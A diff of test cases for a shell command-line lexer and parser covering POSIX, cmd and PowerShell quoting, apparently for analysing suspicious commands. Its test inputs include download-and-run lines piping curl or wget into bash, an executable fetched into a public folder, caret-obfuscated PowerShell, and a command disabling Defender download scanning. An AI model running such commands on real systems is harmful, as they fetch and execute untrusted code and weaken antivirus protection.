@@ -9,7 +9,7 @@ describe('lex', () => {
   it('reads quotes and escapes as each shell does', () => {
     expect(words('echo "a b" \'c d\' e\\ f', 'posix')).toEqual(['echo', 'a b', 'c d', 'e f']);
     expect(words('p^o^w^e^r^s^h^e^l^l -c "x y"', 'cmd')).toEqual(['powershell', '-c', 'x y']);
-    expect(words('Write-Host "a`"b" \'it\'\'s\'', 'powershell')).toEqual(['Write-Host', 'a"b', "it's"]);
+    expect(words("Write-Host \"a`\"b\" 'it''s'", 'powershell')).toEqual(['Write-Host', 'a"b', "it's"]);
   });
 
   it('reads \\" inside a quoted cmd argument as a quote, and "C:\\Temp\\" as a path ending in a backslash', () => {
@@ -18,7 +18,12 @@ describe('lex', () => {
   });
 
   it('keeps a Windows path whole in a line read as POSIX', () => {
-    expect(words('curl -o C:\\Users\\Public\\a.exe http://x.test/a', 'posix')).toEqual(['curl', '-o', 'C:\\Users\\Public\\a.exe', 'http://x.test/a']);
+    expect(words('curl -o C:\\Users\\Public\\a.exe http://x.test/a', 'posix')).toEqual([
+      'curl',
+      '-o',
+      'C:\\Users\\Public\\a.exe',
+      'http://x.test/a',
+    ]);
   });
 
   it('keeps brackets that pair up in one word, pipes inside included', () => {
@@ -28,12 +33,23 @@ describe('lex', () => {
 
   it('separates comments, line continuations and heredoc bodies', () => {
     const tokens = lex('curl -s x \\\n  -o /tmp/a # fetch it', 'posix');
-    expect(tokens.filter((t) => t.kind === 'word').map((t) => t.kind === 'word' && t.word.value)).toEqual(['curl', '-s', 'x', '-o', '/tmp/a']);
+    expect(tokens.filter((t) => t.kind === 'word').map((t) => t.kind === 'word' && t.word.value)).toEqual([
+      'curl',
+      '-s',
+      'x',
+      '-o',
+      '/tmp/a',
+    ]);
     expect(tokens.find((t) => t.kind === 'comment')).toMatchObject({ text: '# fetch it' });
     const heredoc = lex('cat > /tmp/x.sh << EOF\n#!/bin/sh\nid\nEOF\nchmod +x /tmp/x.sh', 'posix');
     const redirect = heredoc.filter((t) => t.kind === 'redirect');
     expect(redirect.map((r) => r.kind === 'redirect' && r.target?.value)).toEqual(['/tmp/x.sh', '#!/bin/sh\nid']);
-    expect(heredoc.filter((t) => t.kind === 'word').map((t) => t.kind === 'word' && t.word.value)).toEqual(['cat', 'chmod', '+x', '/tmp/x.sh']);
+    expect(heredoc.filter((t) => t.kind === 'word').map((t) => t.kind === 'word' && t.word.value)).toEqual([
+      'cat',
+      'chmod',
+      '+x',
+      '/tmp/x.sh',
+    ]);
   });
 
   it('reads REM and :: as comments only where a cmd command starts', () => {
@@ -108,7 +124,15 @@ describe('parseCommandLine', () => {
     expect(line.slice(curl?.start, curl?.end)).toBe('curl -o a.exe http://x.test/a');
     expect(stages('sudo -u root nohup sh -c "wget -q x -O- | bash"')).toEqual(['- sudo', '- nohup', '- sh', '- wget', '| bash']);
     expect(stages('for /f %i in (a.txt) do call b.bat %i')).toEqual(['- for', '- call', '- b.bat']);
-    expect(stages('if ! type docker; then curl -sLk $SRC/d.sh | bash ; fi')).toEqual(['- if', '- !', '- type', '; then', '- curl', '| bash', '; fi']);
+    expect(stages('if ! type docker; then curl -sLk $SRC/d.sh | bash ; fi')).toEqual([
+      '- if',
+      '- !',
+      '- type',
+      '; then',
+      '- curl',
+      '| bash',
+      '; fi',
+    ]);
   });
 
   it('reads what PowerShell runs: -Command, -EncodedCommand, Start-Process, substitutions', () => {
@@ -129,6 +153,8 @@ describe('parseCommandLine', () => {
   });
 
   it('lists the comments of the line', () => {
-    expect(parseCommandLine('Set-MpPreference -DisableIOAVProtection $true # stop scanning downloads').comments.map((c) => c.text)).toEqual(['# stop scanning downloads']);
+    expect(parseCommandLine('Set-MpPreference -DisableIOAVProtection $true # stop scanning downloads').comments.map((c) => c.text)).toEqual(
+      ['# stop scanning downloads'],
+    );
   });
 });
